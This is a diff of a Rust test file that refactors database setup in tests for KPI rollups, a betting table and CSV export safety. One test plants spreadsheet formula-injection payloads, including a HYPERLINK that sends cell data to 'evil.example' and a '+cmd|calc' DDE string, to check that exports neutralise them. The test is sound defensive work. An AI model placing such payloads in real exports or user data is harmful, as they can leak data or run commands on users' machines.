@@ -109,13 +109,13 @@ async fn every_kpi_equals_its_hand_computation_live_and_from_the_rollups() {
     let conn = app.state.pool.get().unwrap();
     let mismatches = whiskerworks::reports::rollup::mismatches;
     assert_eq!(mismatches(&conn).unwrap(), Vec::<String>::new());
-    conn.execute(
-        "UPDATE report_days SET value = value + 1 WHERE metric = 'orders' AND day = '2026-02-23'",
-        [],
-    )
-    .unwrap();
-    conn.execute("DELETE FROM report_days WHERE day = '2026-02-22'", [])
-        .unwrap();
+    app.write(|tx| {
+        tx.execute(
+            "UPDATE report_days SET value = value + 1 WHERE metric = 'orders' AND day = '2026-02-23'",
+            [],
+        )?;
+        tx.execute("DELETE FROM report_days WHERE day = '2026-02-22'", [])
+    });
     assert_eq!(
         mismatches(&conn).unwrap(),
         [
@@ -283,17 +283,16 @@ async fn bets_leave_the_dashboard_and_exports_untouched() {
                 .unwrap(),
         );
     }
-    let c = app.state.pool.get().unwrap();
-    c.execute(
-        "INSERT INTO bets_books (order_id, proposition, status, created_at) VALUES (?1, 'cancelled', 'open', ?2)",
-        params![crafted.orders[3], at("2026-02-24 10:00")],
-    )
-    .unwrap();
-    c.execute(
-        "INSERT INTO bets_stakes (book_id, manager_id, side, amount_minor, placed_at) VALUES (?1, 1, 1, 777777, ?2)",
-        params![c.last_insert_rowid(), at("2026-02-24 10:00")],
-    )
-    .unwrap();
+    app.write(|c| {
+        c.execute(
+            "INSERT INTO bets_books (order_id, proposition, status, created_at) VALUES (?1, 'cancelled', 'open', ?2)",
+            params![crafted.orders[3], at("2026-02-24 10:00")],
+        )?;
+        c.execute(
+            "INSERT INTO bets_stakes (book_id, manager_id, side, amount_minor, placed_at) VALUES (?1, 1, 1, 777777, ?2)",
+            params![c.last_insert_rowid(), at("2026-02-24 10:00")],
+        )
+    });
     let after = page(manager.get_html(&format!("/manage?{PERIOD}")).await.1);
     assert_eq!(before, after);
     for (i, what) in ["orders", "ledger", "invoices", "payouts"]
@@ -419,21 +418,17 @@ async fn no_export_carries_a_spreadsheet_formula_from_a_name() {
     let app = spawn_app().await;
     let crafted = craft(&app);
     let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
-    {
-        let c = app.state.pool.get().unwrap();
+    app.write(|c| {
         c.execute(
             "UPDATE users SET name = ?1 WHERE role = 'client'",
             [payload],
-        )
-        .unwrap();
+        )?;
         c.execute(
             "UPDATE users SET name = '@SUM(1+1)' WHERE id = ?1",
             [crafted.worker],
-        )
-        .unwrap();
+        )?;
         c.execute("UPDATE services SET code = '+cmd|calc'", [])
-            .unwrap();
-    }
+    });
     let manager = manager(&app).await;
 
     let mut neutralised = 0;
